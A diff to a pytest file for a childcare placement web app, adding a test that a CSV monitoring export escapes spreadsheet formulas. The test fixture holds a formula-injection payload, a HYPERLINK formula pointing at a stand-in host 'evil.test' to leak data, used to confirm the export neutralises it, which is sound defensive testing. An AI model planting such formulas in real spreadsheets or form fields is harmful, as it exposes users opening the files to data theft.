@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
@@ -393,3 +395,18 @@ def test_the_provider_hears_of_a_proposal_in_the_language_they_chose(app, mail_s
     assert staff_client.post("/t/aalst/loket/rondes").status_code == 302
     [mail] = [m for m in mail_sink.messages if m["To"] == "opvang-de-speelboom@example.be"]
     assert mail["Subject"] == "New proposal for De Speelboom"
+
+
+def test_an_area_named_as_a_formula_stays_text_in_the_monitoring_export(app):
+    """A provider can name an area; opened in Excel, ``=HYPERLINK(…)`` must not run."""
+    formula = '=HYPERLINK("http://evil.test/?leak","Klik")'
+    with tenant_db(app) as db:
+        location = make_location(db, "De Speelboom", places=2)
+        request = make_request(db, "Noor", [location])
+        request.area = formula
+        db.add(request)
+    client = app.test_client()
+    staff(app, client)
+    exported = client.get("/t/aalst/loket/monitoring.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert "'" + formula in cells and not any(cell.startswith("=") for cell in cells)
